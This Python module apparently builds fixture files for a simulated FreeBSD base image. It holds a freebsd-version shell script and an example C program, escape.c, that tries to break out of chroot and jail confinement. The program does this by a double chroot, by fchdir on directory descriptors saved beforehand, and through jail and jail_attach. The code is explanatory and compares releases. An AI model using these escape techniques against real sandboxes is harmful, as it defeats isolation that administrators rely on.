"""Text files of the base image beyond /etc: a script of /bin, the source that a reader finds under /usr/share/examples.

Models bin/freebsd-version in form; the words are our own. @UNAME@ stands for the release.
"""

from __future__ import annotations

FREEBSD_VERSION = """\
#!/bin/sh
# Which release: of the installed kernel (-k), of the running one (-r), of the programs (-u), of a jail's (-j).
me=${0##*/} jails= k= r= u=
usage() { echo "usage: $me [-kru] [-j jail]" >&2; exit 1; }
while getopts kruj: option; do
\tcase $option in
\tk) k=1 ;;
\tr) r=1 ;;
\tu) u=1 ;;
\tj) jails="$jails $OPTARG" ;;
\t*) usage ;;
\tesac
done
[ $OPTIND -le $# ] && usage
[ "$k$r$u$jails" ] || u=1
if [ "$k" ]; then
\t[ -r /boot/kernel/kernel ] || { echo "$me: unable to locate kernel" >&2; exit 1; }
\techo @UNAME@
fi
[ "$r" ] && sysctl -n kern.osrelease
[ "$u" ] && echo @UNAME@
for jail in $jails; do jexec -- $jail freebsd-version; done
exit 0
"""

ESCAPE_C = """\
/*
 * escape: try to leave a chroot, or a jail, call by call.
 *
 * chroot(2) moves the root of a process and nothing else. The working directory stays, and so do open directories.
 * Walking up by ".." stops at the root, but only if the walk comes through it. Each function below arranges to stand
 * somewhere from which no walk up comes through the root. Compare what happens on 3.4, on 4.0 and today, and with
 * sysctl kern.chroot_allow_open_directories at 0, 1 and 2.
 *
 * CALL(x) makes a call, prints it with its answer, and ends the attempt when it is refused.
 * climb() is chdir("..") sixteen times.
 */
#include <sys/param.h>
#include <sys/jail.h>
#include <sys/stat.h>
#include <fcntl.h>
#include <jail.h>
#include <unistd.h>

#define CAGE "/tmp/cage"

static void
lock(void)              /* into the cage, as a careful administrator does it */
{
\tCALL(chdir(CAGE));
\tCALL(chroot("."));
}

void
by_dotdot(void)         /* the parent of a root is the root itself: held on every release */
{
\tlock();
\tclimb();
}

void
by_chroot(void)         /* "." is now above "/": nothing but a remembered first root can stop the walk */
{
\tlock();
\tmkdir("sub", 0755);
\tCALL(chroot("sub"));
\tclimb();
}

void
by_fchdir(void)         /* the same, by a descriptor: 4.0 and later refuse the second chroot */
{
\tlock();
\tint fd = CALL(open(".", O_RDONLY));
\tmkdir("sub", 0755);
\tCALL(chroot("sub"));
\tCALL(fchdir(fd));
\tclimb();
}

void
by_saved_fd(void)       /* opened before the first chroot: no first root lies on the way up from here */
{
\tint fd = CALL(open("/", O_RDONLY));
\tlock();
\tCALL(fchdir(fd));
\tclimb();
}

void
by_jail(void)           /* as above with jail(2): 4.0 asked as chroot(2) does, later ones always refuse */
{
\tint fd = CALL(open("/", O_RDONLY));
\tstruct jail j = { .version = 0, .path = CAGE, .hostname = "cage", .ip_number = 0x0a00020f };
\tCALL(jail(&j));
\tCALL(fchdir(fd));
\tclimb();
}

void
by_attach(const char *name)     /* as above with jail_attach(2): whoever enters a jail carries no directories */
{
\tint jid = CALL(jail_getid(name));
\tint fd = CALL(open("/", O_RDONLY));
\tCALL(jail_attach(jid));
\tCALL(fchdir(fd));
\tclimb();
}

/* main() remembers stat("/") first, and at the end asks whether stat(".") is the same directory. */
"""

# path -> text, in every copy of the base system.
LOCAL_TEXTS: dict[str, str] = {
    "/bin/freebsd-version": FREEBSD_VERSION,
    "/usr/share/examples/cellblock/escape.c": ESCAPE_C,
}
